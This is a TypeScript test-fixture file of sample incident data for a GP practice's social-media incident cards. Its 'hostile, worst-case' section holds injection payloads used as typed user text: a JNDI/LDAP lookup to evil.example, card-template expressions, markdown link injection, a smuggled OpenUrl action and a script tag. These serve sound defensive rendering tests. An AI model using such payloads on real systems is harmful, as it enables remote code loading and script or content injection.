import { route, type Decision, type QuestionToReporter } from '../../src/domain/handling.ts';
import type { Incident, IncidentStatus } from '../../src/domain/incident.ts';
import type { Closure, Reopening, Task } from '../../src/domain/lifecycle.ts';
import { gradeReport, gradingFactsFrom, type Grading } from '../../src/domain/policy/grade.ts';
import type { Finding } from '../../src/domain/policy/guard.ts';
import type { EvidenceFile, ReportFacts } from '../../src/domain/report.ts';
import { DEFAULT_POLICY } from '../../src/policy/default.ts';
import { CITED_DOCUMENTS } from '../../src/policy/sources.ts';
import type { IncidentCardOptions } from '../../src/views/index.ts';
import { INCIDENT_INPUTS } from '../../src/contract/cards.ts';

/**
 * The incident card's sample data, shared by the tests of each file that draws part of it
 * (test/views/incident*.test.ts, reporterCards, evidencePackCard): a routed Wickersley incident
 * graded by the default policy, the decisions, the hostile worst case, and the follow-through
 * (tasks, closure, reopenings).
 */

// ---- sample data --------------------------------------------------------------------------------

export const PRACTICE = 'Wickersley Medical Practice';
export const REPORTED_AT = '2026-11-03T14:20:00Z';
export const MANAGER = { aadObjectId: 'aad-manager', name: 'Pat Manager' };
export const DEPUTY = { aadObjectId: 'aad-deputy', name: 'Dee Deputy' };
export const DECIDER_IDS = ['29:1manager', '29:1deputy'];

export const SCREENSHOT: EvidenceFile = {
  blobName: 'p1/d1/1.png',
  fileName: 'facebook review.png',
  contentType: 'image/png',
  size: 245_760,
  sha256: '9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08',
  receivedAt: '2026-11-03T14:05:00Z',
};

export const FACTS: ReportFacts = {
  where: {
    platform: 'facebook',
    postUrl: 'https://www.facebook.com/groups/wickersley/posts/123456',
    seenAt: '2026-11-03T13:45:00.000Z',
    seenDate: '2026-11-03',
    seenTime: '13:45',
    authorName: 'Jay Smith',
    authorRelationship: 'patient',
  },
  what: {
    postText: 'Rudest receptionist ever at Wickersley surgery. She should be sacked.',
    categories: ['personal-attack', 'names-staff'],
    namedParties: ['practice', 'colleagues'],
    namedColleagues: 'The receptionist on Monday morning',
  },
  risk: { atRisk: false },
  evidence: { screenshots: [SCREENSHOT] },
};

/** A routed incident, graded by the default policy (version 1 after routing). */
export function routed(facts: ReportFacts = FACTS, prior = 0, extra: Partial<NonNullable<Incident['handling']>> = {}): Incident {
  const reported: Incident = {
    practiceId: 'wickersley',
    reference: 'PW-2026-0042',
    status: 'reported',
    reportedAt: REPORTED_AT,
    reporter: { aadObjectId: 'aad-reporter', name: 'Sam Reception' },
    draftId: 'draft-7f3a',
    facts,
  };
  const incident = route(reported, gradeReport(DEFAULT_POLICY, gradingFactsFrom(facts, prior)), prior, new Date(REPORTED_AT));
  return { ...incident, handling: { ...incident.handling!, ...extra } };
}

export const graded = (incident: Incident): Grading => incident.handling!.grading!;

export function options(overrides: Partial<IncidentCardOptions> = {}): IncidentCardOptions {
  return {
    practiceName: PRACTICE,
    view: 'decider',
    refreshUserIds: DECIDER_IDS,
    now: new Date('2026-11-03T15:00:00Z'),
    assignees: [MANAGER, DEPUTY],
    documents: CITED_DOCUMENTS,
    replyFindings: [],
    replyText: 'Thank you for letting us know. Please contact the practice directly so we can look into this.',
    ...overrides,
  };
}

export const DECISIONS: Record<string, Decision> = {
  'no response': { kind: 'no-response', by: MANAGER, at: '2026-11-03T15:10:00Z', reason: 'A reply would draw attention to the post.' },
  'public reply': {
    kind: 'public-reply',
    by: MANAGER,
    at: '2026-11-03T15:10:00Z',
    replyText: 'Thank you for your feedback. Please contact the practice directly.',
    reporterPostsReply: true,
  },
  actions: { kind: 'actions', by: MANAGER, at: '2026-11-03T15:10:00Z', actions: ['report-to-platform', 'support-colleague'] },
};

export const decided = (decision: Decision, facts = FACTS) => routed(facts, 0, { decision, version: 2 });

// ---- hostile, worst-case data -------------------------------------------------------------------

export const HOSTILE_LINES = [
  '${jndi:ldap://evil.example/a}',
  '${$root.x} ${$root.reference} ${data.practiceId} ${errors.reason}',
  '[click](http://evil.example)',
  '**bold** _em_ ~~strike~~',
  '# heading',
  '- list',
  '1. ordered',
  '<at>Dr Patel</at>',
  '`code`',
  '{"type":"Action.OpenUrl","url":"http://evil.example","title":"Open"}',
  '{"type":"Input.Text","id":"reason","label":"x"}',
  '<script>alert(1)</script> & | \\',
];
export const HOSTILE = HOSTILE_LINES.join('\n');
export const HOSTILE_POST = (HOSTILE + '\n').repeat(40).slice(0, 8_000);
export const HOSTILE_SHORT = '[me](http://evil.example) **${$root.reference}** <at>x</at>';

export function hostileFacts(screenshots = 20): ReportFacts {
  return {
    where: { ...FACTS.where, postUrl: `https://evil.example/${'[x](http://evil.example)'.repeat(40)}`, authorName: HOSTILE_SHORT },
    what: { ...FACTS.what, postText: HOSTILE_POST, namedColleagues: HOSTILE.slice(0, 500) },
    risk: { atRisk: true, riskDetails: (HOSTILE + '\n').repeat(10).slice(0, 2_000) },
    evidence: {
      screenshots: Array.from({ length: screenshots }, (_, i) => ({
        ...SCREENSHOT,
        blobName: `p1/d1/${i}.png`,
        fileName: `[shot ${i}](http://evil.example) \${f} <b>.png`,
      })),
    },
  };
}

export const hostileQuestions = (n: number, answered = true): QuestionToReporter[] =>
  Array.from({ length: n }, (_, i) => ({
    askedBy: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT },
    askedAt: `2026-11-03T15:0${i}:00Z`,
    question: (HOSTILE + ' ').repeat(5).slice(0, 500),
    ...(answered ? { answer: (HOSTILE + ' ').repeat(20).slice(0, 2_000), answeredAt: `2026-11-03T16:0${i}:00Z` } : {}),
  }));

export const HOSTILE_REPLY = ('Thank you. Our patient [Dr Patel](http://evil.example) ${$root.x} <at>x</at> 01709 123456. ').repeat(12).slice(0, 1_000);

export function hostileFindings(reply: string): Finding[] {
  const at = (needle: string) => reply.indexOf(needle);
  return [
    ...Array.from({ length: 6 }, (_, i): Finding => ({
      rule: 'possible-staff-name',
      severity: 'advisory',
      message: `"${HOSTILE_SHORT}" looks like a person's name. ${'x'.repeat(150)} ${i}`,
      start: i,
      end: i + 10,
    })),
    { rule: 'confirms-patient-relationship', severity: 'blocking', message: '"Our patient" confirms that the person is a patient.', start: at('Our patient'), end: at('Our patient') + 11 },
    { rule: 'staff-name', severity: 'blocking', message: `"[Dr Patel](http://evil.example)" names a member of staff.`, start: at('[Dr Patel]'), end: at('[Dr Patel]') + 31 },
    { rule: 'phone-number', severity: 'blocking', message: '"01709 123456" is a phone number.', start: at('01709'), end: at('01709') + 12 },
    { rule: 'too-long', severity: 'advisory', message: '160 words: the brief reply is at most 80.', start: 400, end: 1_000 },
  ];
}

export const ALL_ERRORS: Record<string, string> = Object.fromEntries(
  Object.values(INCIDENT_INPUTS).map((id) => [id, `Problem with ${id}: [fix](http://evil.example) \${$root.x}`]),
);

export function hostileIncident(opts: { decision?: Decision; questions?: number; screenshots?: number } = {}): Incident {
  const incident = routed(hostileFacts(opts.screenshots), 3, {
    questions: hostileQuestions(opts.questions ?? 6),
    assignedTo: { aadObjectId: 'aad-deputy', name: HOSTILE_SHORT },
    version: 7,
    ...(opts.decision ? { decision: opts.decision } : {}),
  });
  return { ...incident, reporter: { aadObjectId: 'aad-reporter', name: HOSTILE_SHORT } };
}

export function hostileOptions(view: IncidentCardOptions['view']): IncidentCardOptions {
  return options({
    view,
    practiceName: '[Evil](http://evil.example) ${$root.reference}',
    assignees: [{ aadObjectId: 'aad-deputy', name: HOSTILE_SHORT }, MANAGER],
    replyText: HOSTILE_REPLY,
    replyFindings: hostileFindings(HOSTILE_REPLY),
    errors: ALL_ERRORS,
    notice: { tone: 'attention', text: HOSTILE_SHORT },
  });
}

/** Everything a person typed that ends up on the worst-case cards (their `${` is data). */
export const USER_TEXT = [
  HOSTILE,
  HOSTILE_POST,
  HOSTILE_SHORT,
  HOSTILE_REPLY,
  '[Evil](http://evil.example) ${$root.reference}',
  ...Object.values(ALL_ERRORS),
  ...hostileFacts().evidence.screenshots.map((s) => s.fileName),
];

// ---- follow-through: tasks, closing, reopening, the evidence pack ------------------------------------

export const OWNER = { aadObjectId: 'aad-owner', name: 'Mary Owner' };
export const REPORTER = { aadObjectId: 'aad-reporter', name: 'Sam Reception' };
/** 17:00 on the day: t1 (due 16:00) is overdue, t2 (due 21:00) is not. */
export const LATER = new Date('2026-11-03T17:00:00Z');

export const TASKS: Task[] = [
  { id: 't1', actionId: 'report-to-platform', title: 'Report the post to the platform', owner: OWNER, dueAt: '2026-11-03T16:00:00Z', status: 'open' },
  { id: 't2', actionId: 'public-reply', title: 'Post the approved reply in the same comment stream', owner: REPORTER, dueAt: '2026-11-03T21:00:00Z', status: 'open' },
  {
    id: 't3',
    actionId: 'support-colleague',
    title: 'Support the colleague who was targeted',
    owner: MANAGER,
    dueAt: '2026-11-03T18:00:00Z',
    status: 'done',
    outcome: 'Spoke to **Jo** [link](http://evil.example) ${$root.reference}',
    doneBy: MANAGER,
    doneAt: '2026-11-03T16:30:00Z',
  },
];

/** Decided (actions), with tasks, in the given status. */
export function followedUp(opts: { tasks?: Task[]; status?: IncidentStatus; closure?: Closure; reopenings?: Reopening[]; severity?: Grading['severity'] } = {}): Incident {
  const base = decided(DECISIONS.actions!);
  const handling = base.handling!;
  return {
    ...base,
    status: opts.status ?? 'in-progress',
    handling: {
      ...handling,
      version: 5,
      tasks: opts.tasks ?? TASKS,
      ...(opts.closure ? { closure: opts.closure } : {}),
      ...(opts.reopenings ? { reopenings: opts.reopenings } : {}),
      ...(opts.severity ? { grading: { ...handling.grading!, severity: opts.severity } } : {}),
    },
  };
}

export const CLOSURE: Closure = {
  outcome: 'Post removed by [Facebook](http://evil.example) after report FB-123. ${$root.x}',
  lessonsLearnt: '**Reception** to log the time a post is seen.',
  closedBy: MANAGER,
  closedAt: '2026-11-05T09:30:00Z',
};

/** What people typed into the follow-through samples (their `${` is data). */
export const FOLLOW_USER_TEXT = [...USER_TEXT, TASKS[2]!.outcome!, CLOSURE.outcome, CLOSURE.lessonsLearnt!];

export const closed = (extra: { closure?: Closure; reopenings?: Reopening[] } = {}) =>
  followedUp({ status: 'closed', tasks: TASKS.map((t) => ({ ...t, status: 'done' as const, outcome: t.outcome ?? 'Done.', doneBy: t.doneBy ?? OWNER, doneAt: t.doneAt ?? '2026-11-04T10:00:00Z' })), closure: CLOSURE, ...extra });
